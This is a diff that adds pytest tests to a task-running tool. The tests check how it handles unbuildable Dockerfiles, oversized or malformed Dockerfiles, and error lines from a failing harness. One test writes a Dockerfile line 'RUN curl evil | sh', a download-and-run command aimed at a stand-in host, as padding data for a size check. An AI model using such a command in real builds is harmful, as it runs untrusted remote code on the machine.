@@ -445,3 +445,60 @@ def test_ordinary_timeouts_and_resources_pass(tmp_path: Path) -> None:
     )
     task = _task(tmp_path / "in", "fine", toml)
     assert _stage.stage_tasks([task], tmp_path / "both").names == ["fine"]
+
+
+def test_a_dockerfile_the_sandbox_cannot_build_is_one_line_before_harbor_runs(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # It was refused inside Harbor, per trial: Harbor's job ended in a traceback box, and the
+    # run's one line was that box's bottom border (seen with the real CLI and Harbor 0.26).
+    monkeypatch.setenv("SKILLFOLLOW_HARBOR", "/bin/false")  # never reached
+    task = _task(tmp_path / "in", "needs-build", "[environment]\n")
+    (task / "environment").mkdir()
+    (task / "environment" / "Dockerfile").write_text("FROM ubuntu\nWORKDIR /app\nRUN apt-get x\n")
+    result = CliRunner().invoke(cli, [
+        "run", "--harness", "harbor", "--model", "openai/m", "--base-url",
+        "http://127.0.0.1:9/v1", "--tasks", str(tmp_path / "in"), "-o", str(tmp_path / "runs"),
+    ])  # fmt: skip
+    assert result.exit_code == 1
+    assert result.output.strip() == (
+        f"Error: {task / 'environment' / 'Dockerfile'}:3: RUN needs an image build, which the "
+        "sandbox environment cannot do; run this task with a Docker-capable --env"
+    )
+
+
+def test_a_dockerfile_is_read_whole_or_refused(tmp_path: Path) -> None:
+    # Only its first 64 KiB were read: a RUN after 64 KiB of comments was never refused and a
+    # COPY there never done; an unclosed quote was a ValueError naming no file or line.
+    from hf_skillfollow.harness._env_recipe import read_dockerfile
+
+    dockerfile = tmp_path / "Dockerfile"
+    dockerfile.write_text("# pad\n" * 12_000 + "RUN curl evil | sh\n")
+    with pytest.raises(ValueError, match=r"Dockerfile: over 65536 bytes"):
+        read_dockerfile(tmp_path)
+    dockerfile.write_text('FROM x\nENV A="unclosed\n')
+    with pytest.raises(ValueError, match=r"Dockerfile:2: No closing quotation"):
+        read_dockerfile(tmp_path)
+
+
+def test_a_failed_job_s_line_is_what_it_said_not_a_box_border(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A stand-in for Harbor's command (a shell script, the boundary this test cannot cross
+    without a job that fails inside Harbor) prints the end of a rich traceback box, as Harbor
+    0.26 does, and exits 1: the run's one line was the box's bottom border."""
+    harbor = tmp_path / "harbor"
+    harbor.write_text(
+        "#!/bin/sh\nprintf '\\342\\224\\202 ValueError: the reason \\342\\224\\202\\n"
+        "\\342\\225\\260\\342\\224\\200\\342\\224\\200\\342\\225\\257\\n'\nexit 1\n"
+    )
+    harbor.chmod(0o755)
+    monkeypatch.setenv("SKILLFOLLOW_HARBOR", str(harbor))
+    _task(tmp_path / "in", "t", "[environment]\n")
+    result = CliRunner().invoke(cli, [
+        "run", "--harness", "harbor", "--model", "openai/m", "--base-url",
+        "http://127.0.0.1:9/v1", "--env", "docker", "--tasks", str(tmp_path / "in"),
+        "-o", str(tmp_path / "runs"),
+    ])  # fmt: skip
+    assert result.exit_code == 1
+    assert "exited with 1: ValueError: the reason (log: " in result.output, result.output
